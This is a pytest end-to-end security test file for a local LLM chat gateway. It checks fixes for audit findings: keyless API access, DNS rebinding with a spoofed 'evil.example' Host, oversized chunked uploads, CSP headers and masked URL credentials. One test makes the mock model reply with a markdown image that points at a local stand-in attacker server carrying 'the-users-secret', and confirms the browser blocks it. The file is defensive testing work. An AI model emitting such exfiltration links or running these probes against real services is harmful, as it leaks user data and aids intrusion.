"""Issue 19 part A, from outside: the real app over HTTP, raw sockets, socket.io and Chromium.

Two apps for the module: `open_app` (sign-in off, the operator opted in to keyless local /v1,
observability restricted to 127.0.0.1 or a token) and `signin_app` (password sign-in, a BASE_URL
with credentials in it, a cloud URL with a key in its query and nothing listening).
"""

from __future__ import annotations

import asyncio
import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from storage.importer import MAX_IMPORT_BYTES
from storage.users import add_or_update_user
from tests.support.app_process import AppProcess, free_port
from tests.support.browser import CHROMIUM, CHROMIUM_ARGS
from tests.support.openai_server import Behaviour, OpenAIServer
from tests.support.sio_client import ChatClient

pytestmark = pytest.mark.e2e

METRICS_TOKEN = "metrics-token-0123456789"
SECRET = "e2e-" + "s" * 60
PASSWORD = "alice-password"
URL_PASSWORD = "Url-Pass-7731"
URL_KEY = "Query-Key-5519"
URL_SIG = "Sig-Value-8842"
CHAT = {"model": "auto", "messages": [{"role": "user", "content": "hi"}]}
MIB = 1024 * 1024


@pytest.fixture(scope="module")
def backend() -> Iterator[OpenAIServer]:
    with OpenAIServer() as server:
        yield server


@pytest.fixture(autouse=True)
def _reset(backend: OpenAIServer) -> None:
    backend.behaviour = Behaviour()
    backend.received.clear()


@pytest.fixture(scope="module")
def open_app(backend: OpenAIServer, foundry_cache: Path) -> Iterator[AppProcess]:
    env = {
        "BASE_URL": backend.base_url,
        "FOUNDRY_CACHE_DIR": str(foundry_cache),
        "CONTEXT_TOKENS": "1000000",  # room for a /v1 body near its 1 MiB limit
        "GATEWAY_KEYLESS": "on",
        "METRICS_ALLOWED": "127.0.0.1/32",
        "METRICS_TOKEN": METRICS_TOKEN,
    }
    with AppProcess(env) as app:
        yield app


@pytest.fixture(scope="module")
def signin_app(
    backend: OpenAIServer, foundry_cache: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[AppProcess]:
    users = tmp_path_factory.mktemp("auth") / "users.json"
    add_or_update_user(users, "alice", PASSWORD)
    dead = free_port()
    env = {
        "BASE_URL": backend.base_url.replace("http://", f"http://proxyuser:{URL_PASSWORD}@"),
        "CLOUD_BASE_URL": f"http://127.0.0.1:{dead}/v1?api-key={URL_KEY}&sig={URL_SIG}",
        "CLOUD_MODEL": "cloud-model",
        "ROUTING_POLICY": "local",
        "ROUTER_RETRIES": "0",
        "FOUNDRY_CACHE_DIR": str(foundry_cache),
        "AUTH_USERS_FILE": str(users),
        "CHAINLIT_AUTH_SECRET": SECRET,
        "GATEWAY_KEYLESS": "on",  # set, and still no keyless /v1 while users sign in
    }
    with AppProcess(env, wait_ready=False) as app:  # the cloud is down: /readyz stays 503 (degraded)
        _wait_state(app, "ready")
        yield app


def _wait_state(app: AppProcess, state: str, timeout: float = 60.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            if httpx.get(app.url + "/healthz", timeout=2).json().get("state") == state:
                return
        except httpx.HTTPError:
            pass
        time.sleep(0.1)
    raise AssertionError(f"the app never reached {state!r}:\n{app.log()[-3000:]}")


def _login(app: AppProcess) -> str:
    r = httpx.post(app.url + "/login", data={"username": "alice", "password": PASSWORD}, timeout=30)
    assert r.status_code == 200, r.text
    return str(r.cookies["access_token"])


def _raw(port: int, request: bytes, timeout: float = 30.0) -> bytes:
    """Send `request` as is and read until the server closes or the headers are complete."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(request)
        data = b""
        while b"\r\n\r\n" not in data:
            piece = sock.recv(65536)
            if not piece:
                break
            data += piece
        return data


# --- finding 1: keyless /v1 -------------------------------------------------------------------------
@pytest.mark.parametrize("forwarding", [{"X-Forwarded-For": "203.0.113.7"}, {}])
def test_signed_in_mode_v1_needs_a_key_or_session_even_from_loopback(
    signin_app: AppProcess, forwarding: dict[str, str]
) -> None:
    """The reported bypass: sign-in on, loopback, no key, no cookie (behind nginx: X-Forwarded-For)."""
    r = httpx.post(signin_app.url + "/v1/chat/completions", json=CHAT, headers=forwarding, timeout=20)
    assert r.status_code == 401, r.text
    assert r.json()["error"]["code"] == "authentication_required"
    assert httpx.get(signin_app.url + "/v1/models", headers=forwarding, timeout=20).status_code == 401


def test_signed_in_session_may_use_v1(signin_app: AppProcess) -> None:
    token = _login(signin_app)
    r = httpx.post(signin_app.url + "/v1/chat/completions", json=CHAT, cookies={"access_token": token}, timeout=20)
    assert r.status_code == 200, r.text
    r = httpx.post(
        signin_app.url + "/v1/chat/completions", json=CHAT, headers={"Authorization": f"Bearer {token}"}, timeout=20
    )
    assert r.status_code == 200, r.text
    forged = token[:-4] + ("AAAA" if not token.endswith("AAAA") else "BBBB")
    r = httpx.post(signin_app.url + "/v1/chat/completions", json=CHAT, cookies={"access_token": forged}, timeout=20)
    assert r.status_code == 401


@pytest.mark.parametrize(
    "forwarding", [{"X-Forwarded-For": "203.0.113.7"}, {"Forwarded": "for=203.0.113.7"}, {"X-Real-IP": "203.0.113.7"}]
)
def test_a_forwarded_request_is_never_local(open_app: AppProcess, forwarding: dict[str, str]) -> None:
    assert httpx.post(open_app.url + "/v1/chat/completions", json=CHAT, timeout=20).status_code == 200  # opted in
    r = httpx.post(open_app.url + "/v1/chat/completions", json=CHAT, headers=forwarding, timeout=20)
    assert r.status_code == 401 and r.json()["error"]["code"] == "gateway_keys_required"


# --- finding 7 (part A): /v1 wants JSON; observability routes can be restricted ----------------------
@pytest.mark.parametrize(
    "kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", None]
)
def test_v1_refuses_bodies_that_are_not_json(open_app: AppProcess, backend: OpenAIServer, kind: str | None) -> None:
    """A cross-site page can POST text/plain without a preflight; the gateway must not answer it."""
    import json

    headers = {"Content-Type": kind} if kind else {}
    r = httpx.post(
        open_app.url + "/v1/chat/completions", content=json.dumps(CHAT).encode(), headers=headers, timeout=20
    )
    assert r.status_code == 415 and r.json()["error"]["code"] == "unsupported_media_type"
    assert not backend.received


@pytest.mark.parametrize("path", ["/readyz", "/metrics", "/openapi.json"])
def test_observability_routes_restricted_to_metrics_allowed_or_token(open_app: AppProcess, path: str) -> None:
    proxied = {"X-Forwarded-For": "198.51.100.4"}  # the request came through a proxy: its client is not 127.0.0.1
    assert httpx.get(open_app.url + path, timeout=10).status_code == 200
    assert httpx.get(open_app.url + path, headers=proxied, timeout=10).status_code == 403
    with_token = {**proxied, "Authorization": f"Bearer {METRICS_TOKEN}"}
    assert httpx.get(open_app.url + path, headers=with_token, timeout=10).status_code == 200
    assert httpx.get(open_app.url + "/healthz", headers=proxied, timeout=10).status_code == 200  # liveness stays open


# --- finding 2: DNS rebinding ----------------------------------------------------------------------
@pytest.mark.parametrize(
    "path", ["/", "/readyz", "/v1/models", "/project/settings?language=en-US", "/ws/socket.io/?EIO=4&transport=polling"]
)
def test_foreign_host_is_refused_on_every_route(open_app: AppProcess, path: str) -> None:
    r = httpx.get(open_app.url + path, headers={"Host": f"evil.example:{open_app.port}"}, timeout=10)
    assert r.status_code == 421, r.text[:200]
    assert "evil.example" not in r.text
    metrics = httpx.get(open_app.url + "/metrics", timeout=10).text
    assert 'foundry_chat_http_refused_total{reason="host"}' in metrics


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "[::1]", "app.localhost"])
def test_own_hosts_are_served(open_app: AppProcess, host: str) -> None:
    r = httpx.get(
        open_app.url + "/ws/socket.io/?EIO=4&transport=polling", headers={"Host": f"{host}:{open_app.port}"}, timeout=10
    )
    assert r.status_code == 200 and r.text.startswith("0{"), r.text[:200]  # the engine.io open packet


def _upgrade(port: int, host: str) -> bytes:
    return (
        f"GET /ws/socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    ).encode()


def test_websocket_handshake_checks_the_host(open_app: AppProcess) -> None:
    refused = _raw(open_app.port, _upgrade(open_app.port, f"evil.example:{open_app.port}"))
    assert refused.startswith(b"HTTP/1.1 421"), refused[:200]  # uvicorn offers the websocket denial response
    accepted = _raw(open_app.port, _upgrade(open_app.port, f"127.0.0.1:{open_app.port}"))
    assert accepted.startswith(b"HTTP/1.1 101"), accepted[:200]


async def test_the_page_still_chats_over_socketio(open_app: AppProcess) -> None:
    client = ChatClient(open_app.url, origin=open_app.url)
    await client.connect()
    turn = await client.send("hello")
    assert "Hello from the test server" in turn.answer()
    await client.close()


# --- finding 4: request bodies ---------------------------------------------------------------------
def _peak_rss(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmHWM")


def _stream_chunked(port: int, path: str, total: int, kind: str, chunk: int = MIB) -> tuple[bytes, int, float]:
    """POST `total` bytes chunked (no Content-Length); stop when the server answers or hangs up.
    Returns (what the server said, bytes sent, seconds)."""
    import select

    started = time.perf_counter()
    head = (
        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: {kind}\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    piece = f"{chunk:x}\r\n".encode() + b"x" * chunk + b"\r\n"
    if kind.startswith("multipart/"):
        preamble = b'--b\r\nContent-Disposition: form-data; name="file"; filename="big.bin"\r\nContent-Type: application/octet-stream\r\n\r\n'
    else:
        preamble = b'{"file": "'
    sent, answer = 0, b""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall(head.encode() + f"{len(preamble):x}\r\n".encode() + preamble + b"\r\n")  # a well-formed upload
        try:
            while sent < total:
                if select.select([sock], [], [], 0)[0]:
                    break  # the server has answered
                sock.sendall(piece)
                sent += chunk
        except (BrokenPipeError, ConnectionResetError):
            pass
        try:
            while b"\r\n\r\n" not in answer:
                data = sock.recv(65536)
                if not data:
                    break
                answer += data
        except (ConnectionResetError, TimeoutError):
            pass
    return answer, sent, time.perf_counter() - started


@pytest.mark.parametrize(
    ("path", "kind"),
    [("/project/file?session_id=x", "multipart/form-data; boundary=b"), ("/project/threads", "application/json")],
)
def test_a_huge_streamed_body_is_refused_while_reading(open_app: AppProcess, path: str, kind: str) -> None:
    """An upload is spooled to disk by the form parser; a JSON body was read into memory whole."""
    total = 300 * MIB
    before = _peak_rss(open_app.proc.pid)  # type: ignore[union-attr]
    answer, sent, seconds = _stream_chunked(open_app.port, path, total, kind)
    growth = _peak_rss(open_app.proc.pid) - before  # type: ignore[union-attr]
    status = answer.split(b"\r\n")[0].decode(errors="replace") or "(connection closed)"
    print(
        f"\n300 MiB chunked POST {path} ({kind}): {sent / MIB:.0f} MiB sent, {seconds:.2f} s, peak RSS +{growth / MIB:.1f} MiB, {status}"
    )
    # /project/file takes the history import's files (MAX_IMPORT_BYTES, 64 MiB); every other route 1 MiB
    limit = (MAX_IMPORT_BYTES if path.startswith("/project/file") else 1 * MIB) + 1 * MIB
    assert sent < limit + 16 * MIB, f"the server kept reading: {sent / MIB:.0f} MiB (limit {limit / MIB:.0f} MiB)"
    assert growth < 64 * MIB, f"peak RSS grew by {growth / MIB:.0f} MiB"
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert "refused a request body over" in open_app.log()


def test_a_declared_huge_body_is_refused_before_reading(open_app: AppProcess) -> None:
    head = (
        f"POST /project/file?session_id=x HTTP/1.1\r\nHost: 127.0.0.1:{open_app.port}\r\n"
        f"Content-Type: multipart/form-data; boundary=b\r\nContent-Length: {300 * MIB}\r\n\r\n"
    ).encode()
    answer = _raw(open_app.port, head)  # not one body byte sent
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b"request_too_large" in answer or b"content-length" in answer.lower()


def test_v1_bodies_up_to_its_own_limit_still_fit(open_app: AppProcess) -> None:
    text = "word " * 6000  # 30 kB: under MAX_INPUT_CHARS, as a /v1 client sends it
    body = {"model": "auto", "messages": [{"role": "user", "content": text}] * 20}  # ~600 kB with history
    r = httpx.post(open_app.url + "/v1/chat/completions", json=body, timeout=30)
    assert r.status_code == 200, r.text[:300]


# --- finding 3: headers and the page's CSP -----------------------------------------------------------
@pytest.mark.parametrize("path", ["/", "/readyz", "/v1/models", "/project/settings?language=en-US", "/nope"])
def test_security_headers_on_every_response(open_app: AppProcess, path: str) -> None:
    r = httpx.get(open_app.url + path, timeout=10)
    csp = r.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp and "img-src 'self' data: blob:" in csp and "connect-src 'self'" in csp
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["referrer-policy"] == "no-referrer"
    assert r.headers["x-frame-options"] == "DENY"


class _Attacker:
    """A second local HTTP server standing in for the exfiltration endpoint: it records every request."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                outer.seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_foreign_images_in_a_message_or_a_reply_fetch_nothing_in_chromium(
    open_app: AppProcess, backend: OpenAIServer
) -> None:
    if not Path(CHROMIUM).is_file():
        pytest.fail(f"{CHROMIUM} missing: scripts/test.sh installs Debian's chromium")
    from playwright.sync_api import sync_playwright

    attacker = _Attacker()
    leak = f"http://127.0.0.1:{attacker.port}/leak.gif?q=the-users-secret"
    backend.behaviour.reply = f"Sure. ![status]({leak}) Done."
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
            page = browser.new_page()
            page.add_init_script(
                "window.__csp = []; document.addEventListener('securitypolicyviolation',"
                " e => window.__csp.push(e.effectiveDirective + ' ' + e.blockedURI));"
            )
            page.route(
                "**/*", lambda r: r.continue_() if urlsplit(r.request.url).hostname == "127.0.0.1" else r.abort()
            )
            page.goto(open_app.url)
            page.wait_for_selector("#welcome-screen", timeout=30_000)
            typed = f"check the status ![mine](http://127.0.0.1:{attacker.port}/user.gif?q=typed-secret)"
            page.fill("#chat-input", typed)  # a user message renders markdown too
            page.wait_for_selector("#chat-submit:not([disabled])", timeout=10_000)
            page.click("#chat-submit")
            page.wait_for_selector(f'[data-step-type="assistant_message"] img[src*="{attacker.port}"]', timeout=30_000)
            # For each image: either the browser fetched it (it completes) or CSP blocked it (a violation event).
            for name in ("user.gif", "leak.gif"):
                page.wait_for_function(
                    f"() => window.__csp.some(v => v.includes('{name}'))"
                    f" || [...document.images].some(i => i.src.includes('{name}') && i.complete && i.naturalWidth > 0)",
                    timeout=30_000,
                )
            violations = page.evaluate("window.__csp")
            page_violations = [
                v
                for v in violations
                if str(attacker.port) not in v and "fonts.googleapis" not in v and "jsdelivr" not in v
            ]
            browser.close()
    finally:
        attacker.close()
    assert attacker.seen == [], f"the browser fetched {attacker.seen}"
    for name in ("user.gif", "leak.gif"):
        assert any(v.startswith("img-src") and name in v for v in violations), violations
    assert page_violations == [], f"the page itself broke the policy: {page_violations}"


# --- finding 6: credentials in URLs ------------------------------------------------------------------
SECRETS = (URL_PASSWORD, URL_KEY, URL_SIG)


def test_credentials_in_urls_never_shown(signin_app: AppProcess, backend: OpenAIServer) -> None:
    token = _login(signin_app)
    ready = httpx.get(signin_app.url + "/readyz", timeout=10)
    assert "local at http://proxyuser:***@127.0.0.1" in ready.text, ready.text
    client = ChatClient(signin_app.url, cookies=f"access_token={token}")

    async def chat() -> tuple[str, str]:
        await client.connect()
        async with httpx.AsyncClient(cookies={"access_token": token}) as http:
            r = await http.get(signin_app.url + "/project/settings", params={"language": "en-US"})
        welcome = str(r.json()["chatProfiles"][0]["markdown_description"])
        turn = await client.send("hello")
        await client.close()
        return welcome, " ".join(turn.all_texts())

    welcome, texts = asyncio.run(chat())
    assert "proxyuser:***@" in welcome, welcome
    # The cloud is unreachable: /v1 asked for it answers with the error that lists the attempt.
    r = httpx.post(
        signin_app.url + "/v1/chat/completions",
        json={**CHAT, "model": "cloud"},
        cookies={"access_token": token},
        timeout=30,
    )
    assert r.status_code >= 500, r.text
    shown = {"readyz": ready.text, "welcome": welcome, "chat": texts, "error": r.text, "log": signin_app.log()}
    for where, text in shown.items():
        for secret in SECRETS:
            assert secret not in text, f"{secret} appears in the {where}"
